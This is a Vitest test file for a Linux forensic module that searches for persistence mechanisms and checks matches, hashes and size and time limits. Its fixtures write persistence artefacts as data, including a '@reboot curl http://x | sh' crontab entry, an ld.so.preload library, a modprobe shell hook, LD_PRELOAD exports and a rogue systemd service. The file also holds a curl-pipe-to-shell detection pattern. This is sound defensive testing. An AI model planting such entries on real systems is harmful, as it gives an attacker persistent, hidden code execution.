import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createPlans } from '../../../../modules/persistence/plan.ts';
import { buildResult } from '../../../../modules/persistence/result.ts';
import { Parameters } from '../../../../modules/persistence/schema.ts';
import { searchEntries } from '../../../../modules/persistence/search-entries.ts';
import { createRunClock } from '../../../../platform/async/run-clock.ts';

const root = mkdtempSync(join(tmpdir(), 'mig-persistence-'));
afterAll(() => rmSync(root, { recursive: true }));

const USERS = [
  { name: 'root', uid: 0, home: '/root' },
  { name: 'ada', uid: 1000, home: '/home/ada' },
];

function write(path: string, text: string): void {
  mkdirSync(join(root, dirname(path)), { recursive: true });
  writeFileSync(join(root, path), text);
}

beforeAll(() => {
  write('/etc/ld.so.preload', '# none\n/usr/lib/evil.so:/lib/b.so\n');
  write('/etc/modules-load.d/a.conf', 'kvm\n');
  write('/etc/modprobe.d/b.conf', 'install dccp /bin/sh -c secret\n');
  write('/proc/modules', 'nf_tables 1 0 - Live 0x0\n');
  write('/etc/crontab', '1 * * * * root run-secret\n2 * * * * ada other\n');
  write('/var/spool/cron/crontabs/ada', '@reboot curl http://x | sh\n');
  write('/etc/cron.daily/logrotate', '#!/bin/sh\nlogrotate\n');
  write('/etc/cron.daily/disabled.sh', '#!/bin/sh\nx\n');
  chmodSync(join(root, '/etc/cron.daily/logrotate'), 0o755);
  write('/var/spool/cron/atjobs/a0001', 'A=1; export A\nat-command\n');
  write('/etc/init.d/ssh', 'start-ssh\n');
  write('/etc/init.d/old', 'start-old\n');
  write('/etc/rc2.d/S01ssh', '');
  write('/etc/systemd/system/evil.service', '[Service]\nUser=ada\nExecStart=/tmp/evil\n');
  write(
    '/etc/systemd/system/plain.service',
    '[Service]\nExecStart=/bin/plain\nEnvironment=LD_PRELOAD=/tmp/p.so\n',
  );
  write('/etc/systemd/system/job.timer', '[Timer]\n');
  write('/etc/systemd/system/job.service', '[Service]\nExecStart=/bin/job\n');
  write('/etc/systemd/system/plain.service.d/extra.conf', '[Service]\nExecStartPost=/tmp/dropped\n');
  mkdirSync(join(root, '/etc/systemd/system/multi-user.target.wants'));
  for (const unit of ['evil.service', 'job.timer'])
    symlinkSync(`../${unit}`, join(root, '/etc/systemd/system/multi-user.target.wants', unit));
  write('/home/ada/.config/systemd/user/own.service', '[Service]\nExecStart=/home/ada/own\n');
  write('/home/ada/.bashrc', 'alias ls=x\nexport LD_PRELOAD=/tmp/q.so\n');
  write('/home/ada/.ssh/authorized_keys', 'command="forced" ssh-ed25519 AAAA ada@home\n');
  // What a hostile user leaves in the way.
  mkdirSync(join(root, '/home/ada/.profile'));
  execFileSync('mkfifo', [join(root, '/home/ada/.zshrc')]);
  symlinkSync('/dev/zero', join(root, '/home/ada/.zprofile'));
  symlinkSync('.zlogin', join(root, '/home/ada/.zlogin'));
  write('/home/ada/.xprofile', 'start\n');
  truncateSync(join(root, '/home/ada/.xprofile'), 2 ** 40);
});

async function search(
  fields: Record<string, unknown>,
  terms: { maxBytes?: number; endsAtMs?: number; hashesEndAtMs?: number } = {},
) {
  const { maxBytes = Number.POSITIVE_INFINITY, endsAtMs = Number.POSITIVE_INFINITY } = terms;
  const searches = { s1: { options: { matchall: true }, ...fields } };
  const plans = createPlans(Parameters.parse({ searches }));
  const place = { system: 'linux', users: USERS, root, leftMs: 0 };
  const found = await searchEntries({ plans, clock: createRunClock(endsAtMs), place });
  const clock = createRunClock(terms.hashesEndAtMs ?? endsAtMs);
  const result = buildResult({ ...found, plans, clock, maxBytes, startedNs: 0n });
  const elements = result.elements as Record<string, Record<string, unknown>[]>;
  return { result, matches: elements.s1 ?? [] };
}

const rowsOf = async (fields: Record<string, unknown>) =>
  (await search(fields)).matches.map(
    ({ kind, name, path, user, enabled }) => `${kind} ${name} ${path} ${user} ${enabled}`,
  );

describe('everything that starts by itself is found', () => {
  test.each([
    [
      'preload',
      [
        'evil.so /etc/ld.so.preload root true',
        'b.so /etc/ld.so.preload root true',
        'plain.service /etc/systemd/system/plain.service root false',
        '.bashrc /home/ada/.bashrc ada true',
      ],
    ],
    [
      'kernel-module',
      [
        'kvm /etc/modules-load.d/a.conf root true',
        'dccp /etc/modprobe.d/b.conf root true',
        'nf_tables /proc/modules root true',
      ],
    ],
    [
      'cron',
      [
        'crontab /etc/crontab root true',
        'crontab /etc/crontab ada true',
        'ada /var/spool/cron/crontabs/ada ada true',
        'disabled.sh /etc/cron.daily/disabled.sh root false',
        'logrotate /etc/cron.daily/logrotate root true',
      ],
    ],
    ['init', ['old /etc/init.d/old root false', 'ssh /etc/init.d/ssh root true']],
    ['timer', ['job.timer /etc/systemd/system/job.timer root true']],
    [
      'systemd',
      [
        'evil.service /etc/systemd/system/evil.service ada true',
        'job.service /etc/systemd/system/job.service root true',
        'plain.service /etc/systemd/system/plain.service root false',
        'plain.service /etc/systemd/system/plain.service.d/extra.conf root false',
        'own.service /home/ada/.config/systemd/user/own.service ada false',
      ],
    ],
    ['profile', ['.bashrc /home/ada/.bashrc ada true', '.xprofile /home/ada/.xprofile ada true']],
    ['ssh-key', ['authorized_keys /home/ada/.ssh/authorized_keys ada true']],
  ])('%s', async (kind, expected) => {
    expect(await rowsOf({ kinds: [kind] })).toEqual(expected.map((row) => `${kind} ${row}`));
  });

  test('at, whose user is the owner of the file', async () => {
    const user = process.getuid?.() === 0 ? 'root' : String(process.getuid?.());
    expect(await rowsOf({ kinds: ['at'] })).toEqual([`at a0001 /var/spool/cron/atjobs/a0001 ${user} true`]);
  });
});

test.each([
  ['at-command', 'a0001'],
  ['^/tmp/evil$', 'evil.service'],
  ['^/tmp/dropped$', 'plain.service'],
  ['curl .*\\| *sh', 'ada'],
  ['^forced$', 'authorized_keys'],
  ['-c secret', 'dccp'],
  ['q\\.so', '.bashrc'],
])('a command is found by %s, and never returned', async (command, name) => {
  const { matches } = await search({ commands: [command] });
  expect(matches.map((match) => match.name)).toContain(name);
  for (const { checks: _, ...match } of matches)
    expect(JSON.stringify(match)).not.toMatch(new RegExp(command));
});

test('checks of user, time and state are compared together', async () => {
  expect(await rowsOf({ users: ['1000'], enabled: true, mtimes: ['<1h'], paths: ['^/etc/systemd'] })).toEqual(
    ['systemd evil.service /etc/systemd/system/evil.service ada true'],
  );
  expect(await rowsOf({ mtimes: ['>1h'] })).toEqual([]);
});

test('a match has the hash and the time of its file, a fact of the kernel has none', async () => {
  const { matches } = await search({ names: ['^kvm$', '^nf_tables$'], options: { matchall: false } });
  const sha256 = createHash('sha256').update('kvm\n').digest('hex');
  expect(matches.map((match) => match.sha256)).toEqual([sha256, '']);
  expect(Date.parse(String(matches[0]?.mtime))).toBeGreaterThan(Date.now() - 60_000);
  expect(matches[1]?.mtime).toBe('');
});

test('a file that is too large is read up to its limit, and an error names it', async () => {
  const { result, matches } = await search({ names: ['^\\.xprofile$'] });
  expect(matches.map((match) => match.sha256)).toEqual(['']);
  expect(result.limits).toEqual(['only the first 1048576 bytes were read of /home/ada/.xprofile']);
});

test('matches that are not hashed before the time is over are returned, and an error says so once', async () => {
  const anyOf = { kinds: ['timer', 'ssh-key'], options: { matchall: false } };
  const { result, matches } = await search(anyOf, { hashesEndAtMs: 0 });
  expect(matches.map(({ kind, sha256 }) => [kind, sha256])).toEqual([
    ['timer', ''],
    ['ssh-key', ''],
  ]);
  expect(result.limits?.filter((limit) => limit.includes('sha256'))).toEqual([
    'the time was over before all matches were hashed: no sha256 as of /etc/systemd/system/job.timer',
  ]);
});

test('limits of matches, time and size are reported', async () => {
  const limited = await search({ names: ['.'], options: { matchall: true, matchlimit: 2 } });
  expect(limited.matches).toHaveLength(2);
  expect(limited.result.limits).toContainEqual(expect.stringContaining('limit of 2 matches'));
  const late = await search({ names: ['.'] }, { endsAtMs: 0 });
  expect(late.result.limits?.[0]).toMatch(/at \/etc\/ld\.so\.preload: nothing after it was searched$/);
  const small = await search({ names: ['.'] }, { maxBytes: 1000 });
  expect(small.result.limits).toContainEqual(expect.stringContaining('were not returned'));
});
